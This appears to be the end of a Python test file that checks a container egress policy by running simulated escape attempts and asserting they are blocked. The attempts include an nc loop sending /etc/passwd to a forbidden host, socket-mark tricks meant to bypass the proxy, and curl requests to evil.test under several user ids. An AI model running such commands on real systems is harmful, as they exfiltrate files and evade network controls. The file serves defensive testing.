    attack.nothing_left()
    docker("restart", "-t", "0", attack.target.id).ok()
    again = Attack()
    equal(again.sh("curl -sm5 --noproxy '*' https://evil.test/").code, 6)
    contains(again.sh("curl -sm5 https://ok.test/").out, '"scheme"')
    again.nothing_left()


@check("attack 50b: from its first instruction a container reaches nothing that is forbidden", leashed=True)
def _():
    wire = Wire()
    script = f"i=0; while [ $i -lt 20 ]; do nc -w1 {EVIL} 443 </etc/passwd; i=$((i+1)); done"
    for _ in range(3):
        docker_run(*with_policy(POLICY), BUSYBOX, "sh", "-c", script)
    equal(wire.towards(EVIL), [])


@check("attack 55: no mark, no port of the proxy and no user id is exempt", leashed=True)
def _():
    with Container("--cap-add", "NET_ADMIN", *with_policy(POLICY), TEST, "sleep", "600") as leashed:
        attack = Attack(leashed)
        script = """
import socket, sys
for mark in (0x2000, 1, 0xffffffff):
    s = socket.socket()
    try: s.setsockopt(socket.SOL_SOCKET, 36, mark)
    except OSError: pass
    s.settimeout(2)
    try:
        s.connect(("203.0.113.9", 80)); s.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); print(s.recv(999))
    except OSError as e: print(e)
"""
        ran = leashed.exec("python3", "-c", script)
        that("scheme" not in ran.out, ran)
        for user in ("1", "100", "65534", "4242"):
            ran = docker("exec", "-u", user, leashed.id, "curl", "-s", "-m3", f"http://{EVIL}/")
            that('"scheme"' not in ran.out, ran)
        attack.nothing_left()


try:
    main()
finally:
    for shared in _shared:
        docker("rm", "-f", "-v", shared.id)
